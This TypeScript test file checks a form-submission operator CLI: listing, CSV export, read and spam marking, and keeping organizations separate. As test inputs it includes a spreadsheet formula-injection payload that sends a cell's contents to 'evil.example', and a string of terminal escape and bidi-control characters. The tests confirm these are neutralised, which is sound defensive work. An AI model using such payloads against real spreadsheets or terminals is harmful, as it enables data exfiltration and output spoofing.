import { beforeAll, expect, test } from 'vitest'
import { form, organization } from '../../adapters/conformance/fixtures.ts'
import { automation } from '../../adapters/conformance/outbox.ts'
import { openTestOperator, type TestOperator } from '../../test/support/services/operator/operator.ts'

let operated: TestOperator
const operator: TestOperator['run'] = (...args) => operated.run(...args)
const linesOf = (text: string) => text.split('\n').filter((line) => line !== '')

const fields = [
  { id: 'name', type: 'short_text', label: 'Name', required: true },
  { id: 'email', type: 'email', label: 'Email', contactField: 'email' },
  { id: 'apiKey', type: 'short_text', label: 'Key' },
]

beforeAll(async () => {
  operated = await openTestOperator()
  const { storage } = operated.service
  for (const id of ['acme', 'other']) await storage.administration.saveOrganization(organization(id))
  const tenant = storage.tenant('acme')
  const definition = {
    ...(form('signup').definition as object),
    notificationEmails: ['office@acme.example'],
    fields,
  }
  await tenant.upsert('forms', [
    { ...form('signup'), definition },
    { ...form('hosted'), createdAt: '2020-01-01T00:00:00.000Z', isPublished: false },
  ])
  await storage.tenant('other').upsert('forms', [form('theirs')])
  await tenant.upsert('automations', [
    automation('thanks', {
      trigger: { type: 'form_submission', formId: 'signup' },
      triggerFormId: 'signup',
      steps: [{ type: 'add_tag', tag: 'guest' }],
    }),
  ])
})

async function submit(name: string): Promise<string> {
  const answers = { name, email: `${name.replaceAll(' ', '.')}@example.com`, apiKey: 'secret' }
  const response = await operated.service.send('/api/forms/signup/submissions', {
    json: { _gotcha: '', ...answers },
  })
  expect(response.status).toBe(200)
  await operated.service.settled()
  return ((await response.json()) as { readonly submissionId: string }).submissionId
}

test('what came in is listed, newest first, and shown with what followed it', async () => {
  const ids = [await submit('ada'), await submit('bob'), await submit('eve')]
  const all = await operator('submissions', 'list', '--org', 'acme')
  expect(all.code).toBe(0)
  expect(linesOf(all.stdout)).toHaveLength(3)
  for (const id of ids) expect(all.stdout).toContain(`  ${id}  signup  `)
  expect(all.stdout).not.toContain('secret')
  const [line = ''] = linesOf((await operator('submissions', 'list', '--org', 'acme', '--json')).stdout)
  expect(JSON.parse(line)).toMatchObject({
    formId: 'signup',
    formName: form('signup').name,
    contact: { email: expect.stringMatching(/@example\.com$/) as unknown },
    answers: { name: expect.any(String) as unknown },
  })
  expect(
    linesOf((await operator('submissions', 'list', '--org', 'acme', '--limit', '2')).stdout),
  ).toHaveLength(2)
  const shown = await operator('submissions', 'show', ids[0] ?? '', '--org', 'acme')
  expect(JSON.parse(shown.stdout)).toMatchObject({
    submissionId: ids[0],
    contact: { email: 'ada@example.com' },
    answers: { name: 'ada' },
  })
  const { messages, waiting, runs } = JSON.parse(shown.stdout) as Record<string, readonly object[]>
  // Each piece of follow-up work is seen, whether or not it has been done by now.
  expect((messages ?? []).length + (waiting ?? []).length + (runs ?? []).length).toBeGreaterThanOrEqual(2)
})

test('what came in is a sheet with a column for each field, which no spreadsheet takes for formulas', async () => {
  operated.service.clock.advance(1_000)
  const formula = '=HYPERLINK("https://evil.example?"&A1)'
  const send = await operated.service.send('/api/forms/signup/submissions', {
    json: { _gotcha: '', name: formula, apiKey: 'secret', _utm_source: '@SUM(1)' },
  })
  const { submissionId } = (await send.json()) as { readonly submissionId: string }
  const { code, stdout, stderr } = await operator(
    ...['submissions', 'list', '--org', 'acme', '--form', 'signup', '--csv', '--limit', '1'],
  )
  expect([code, stderr]).toEqual([0, ''])
  const [heads, row, ...more] = stdout.trimEnd().split('\r\n')
  expect(heads).toBe('\uFEFFsubmissionId,submittedAt,formId,contactId,name,email,utm_source')
  expect(row).toMatch(
    new RegExp(
      `^${submissionId},[^,]*,signup,,"'=HYPERLINK\\(""https://evil.example\\?""&A1\\)",,'@SUM\\(1\\)$`,
    ),
  )
  expect(more).toEqual([])
  for (const [args, said] of [
    [['--csv', '--json'], 'exclude each other'],
    [['--csv', '--limit', '0'], '--limit is a whole number'],
    [['--csv', '--form', 'none'], 'has no form none'],
  ] as const)
    expect((await operator('submissions', 'list', '--org', 'acme', ...args)).stderr).toContain(said)
})

test('a sheet with labels has the words of each form', async () => {
  const options = [
    { value: 'wash', label: 'Car wash; =outside' },
    { value: 'other', label: 'Something else' },
  ]
  const definition = {
    ...(form('words').definition as object),
    notificationEmails: [],
    fields: [
      { id: 'services', type: 'multiple_choice', label: '=What do you need?', options },
      { id: 'terms', type: 'consent', label: 'I agree' },
      { id: 'who', type: 'short_text', label: 'Name' },
    ],
  }
  const { storage } = operated.service
  await storage.administration.saveOrganization(organization('speaking'))
  await storage.tenant('speaking').upsert('forms', [{ ...form('words'), definition }, form('more')])
  operated.service.clock.advance(1_000)
  const send = await operated.service.send('/api/forms/words/submissions', {
    json: { _gotcha: '', services: ['wash', 'other'], terms: true, who: 'Zoe' },
  })
  expect(operated.service.errors).toEqual([])
  const { submissionId } = (await send.json()) as { readonly submissionId: string }
  const list = ['submissions', 'list', '--org', 'speaking', '--csv', '--limit', '2'] as const
  const one = await operator(...list, '--form', 'words', '--labels')
  expect([one.code, one.stderr]).toEqual([0, ''])
  const [heads, row] = one.stdout.trimEnd().split('\r\n')
  expect(heads).toBe(`\uFEFFsubmissionId,submittedAt,formId,contactId,'=What do you need?,I agree,Name`)
  expect(row).toMatch(
    new RegExp(`^${submissionId},[^,]*,words,,"Car wash;' =outside; Something else",Yes,Zoe$`),
  )
  expect((await operator(...list, '--labels')).stdout).toBe(one.stdout)
  const byIds = (await operator(...list, '--form', 'words')).stdout.split('\r\n')
  expect(byIds[0]).toContain(',services,terms,who')
  expect(byIds[1]).toContain(',wash; other,true,Zoe'.replace('wash; other', '"wash; other"'))
  expect((await operator('submissions', 'list', '--org', 'acme', '--labels')).stderr).toContain(
    '--labels needs --csv',
  )
})

test('answers of strangers do not command the terminal', async () => {
  const name = '\u001b]0;owned\u0007\u009b2J\u202e\nx'
  const response = await operated.service.send('/api/forms/signup/submissions', {
    json: { _gotcha: '', name, email: 'odd@example.com' },
  })
  const { submissionId } = (await response.json()) as { readonly submissionId: string }
  const list = ['submissions', 'list', '--org', 'acme']
  for (const { stdout } of [
    await operator(...list),
    await operator(...list, '--json'),
    await operator(...list, '--csv'),
    await operated.runOnTerminal(200, ...list),
    await operator('submissions', 'show', submissionId, '--org', 'acme'),
  ]) {
    expect(stdout).toContain('owned')
    expect(stdout).not.toMatch(/[^\n\r\P{Cc}]|\p{Bidi_Control}/u)
  }
  const shown = await operator('submissions', 'show', submissionId, '--org', 'acme')
  expect(JSON.parse(shown.stdout)).toMatchObject({ answers: { name } })
})

test('what one contact sent is listed by itself, and to nobody else', async () => {
  const ids = [await submit('kim'), await submit('kim')]
  await submit('lou')
  const shown = await operator('submissions', 'show', ids[0] ?? '', '--org', 'acme')
  const { contact } = JSON.parse(shown.stdout) as { readonly contact: { readonly contactId: string } }
  const list = (org: string, ...args: readonly string[]) =>
    operator('submissions', 'list', '--org', org, '--contact', contact.contactId, ...args)
  const listed = linesOf((await list('acme', '--limit', '1')).stdout)
  expect(listed).toHaveLength(1)
  for (const args of [[], ['--form', 'signup']]) {
    const { stdout } = await list('acme', ...args)
    expect(linesOf(stdout)).toHaveLength(2)
    for (const id of ids) expect(stdout).toContain(id)
  }
  expect((await list('acme', '--form', 'hosted')).stdout).toBe('')
  expect((await list('other')).stdout).toBe('')
})

test('what somebody read is marked, all of it or none', async () => {
  const ids = [await submit('ann'), await submit('ben'), await submit('cat')]
  const [first = '', second = '', third = ''] = ids
  const at = ['--org', 'acme'] as const
  const read = async () => {
    const { stdout } = await operator('submissions', 'list', ...at, '--json', '--limit', '500')
    const listed = linesOf(stdout).map((line) => JSON.parse(line) as { submissionId: string; read: boolean })
    return listed.filter((one) => one.read).map(({ submissionId }) => submissionId)
  }
  expect(await read()).toEqual([])
  expect(await operator('submissions', 'mark', first, second, ...at, '--read')).toMatchObject({
    code: 0,
    stdout: '',
    stderr: 'Marked read.\n',
  })
  expect((await read()).sort()).toEqual([first, second].sort())
  expect(JSON.parse((await operator('submissions', 'show', first, ...at)).stdout) as object).toMatchObject({
    read: true,
  })
  expect((await operator('submissions', 'mark', second, ...at, '--unread')).code).toBe(0)
  expect(await read()).toEqual([first])
  const refused = await operator('submissions', 'mark', third, 'sub_none', ...at, '--read')
  expect(refused).toMatchObject({ code: 1, stdout: '' })
  expect(refused.stderr).toContain('acme has no submissions with these ids: sub_none. Nothing was marked.')
  expect((await operator('submissions', 'mark', first, '--org', 'other', '--unread')).code).toBe(1)
  expect(await read()).toEqual([first])
  for (const [args, said] of [
    [[first, '--read', '--unread'], 'exclude each other'],
    [[first], '--clean is missing'],
    [['--read'], 'ID… is missing'],
    [[...Array(501).keys()].map(String).concat('--read'), 'ids'],
  ] as const) {
    const { code, stderr } = await operator('submissions', 'mark', ...args, ...at)
    expect([code === 0, stderr]).toEqual([false, expect.stringContaining(said)])
  }
})

test('spam is listed with its reasons, unless it is left out, and what was held of it follows once it is clean', async () => {
  const at = ['--org', 'acme'] as const
  const id = await submit('Buy viagra online')
  const listed = async (...args: readonly string[]) => {
    const { stdout } = await operator('submissions', 'list', ...at, '--json', '--limit', '500', ...args)
    return linesOf(stdout)
      .map((line) => JSON.parse(line) as { submissionId: string; spam: boolean; spamReasons: unknown })
      .filter(({ submissionId }) => submissionId === id)
  }
  const shown = async () =>
    JSON.parse((await operator('submissions', 'show', id, ...at)).stdout) as Record<string, unknown>
  expect(await listed()).toMatchObject([{ spam: true, spamReasons: ['words'] }])
  expect(await listed('--no-spam')).toEqual([])
  expect(await shown()).toMatchObject({ contact: null, waiting: [], messages: [], runs: [] })
  expect(await operator('submissions', 'mark', id, ...at, '--clean')).toMatchObject({
    code: 0,
    stderr: 'Marked clean.\n',
  })
  expect(await listed('--no-spam')).toMatchObject([{ spam: false, spamReasons: [] }])
  const { contact, waiting } = await shown()
  expect(contact).toMatchObject({ email: 'Buy.viagra.online@example.com' })
  expect(waiting).toHaveLength(2)
  expect((await operator('submissions', 'mark', id, ...at, '--spam')).stderr).toBe('Marked spam.\n')
  expect(await listed()).toMatchObject([{ spam: true, spamReasons: ['marked'] }])
  expect((await operator('submissions', 'mark', id, '--org', 'other', '--clean')).code).toBe(1)
  expect((await operator('submissions', 'mark', id, ...at, '--clean', '--read')).stderr).toContain('exclude')
})

test('nothing of another organization is listed or shown, nor what does not exist', async () => {
  const id = await submit('mia')
  expect((await operator('submissions', 'list', '--org', 'other')).stdout).toBe('')
  for (const args of [
    ['submissions', 'show', id, '--org', 'other'],
    ['submissions', 'list', '--org', 'acme', '--form', 'theirs'],
    ['submissions', 'list', '--org', 'acme', '--form', 'none'],
    ['form', 'show', 'theirs', '--org', 'acme'],
  ])
    expect(await operator(...args)).toMatchObject({ code: 1, stdout: '' })
})

test('forms are listed and shown as an import takes them', async () => {
  const { stdout } = await operator('form', 'list', '--org', 'acme')
  expect(linesOf(stdout)).toEqual([
    expect.stringMatching(/^signup {2}published {2}can be submitted here {2}/),
    expect.stringMatching(/^hosted {2}unpublished {2}/),
  ])
  const shown = JSON.parse((await operator('form', 'show', 'signup', '--org', 'acme')).stdout) as object
  expect(shown).toMatchObject({
    formId: 'signup',
    isPublished: true,
    fields,
    notificationEmails: ['office@acme.example'],
  })
  expect(JSON.stringify(shown)).not.toContain('passwordHash')
})
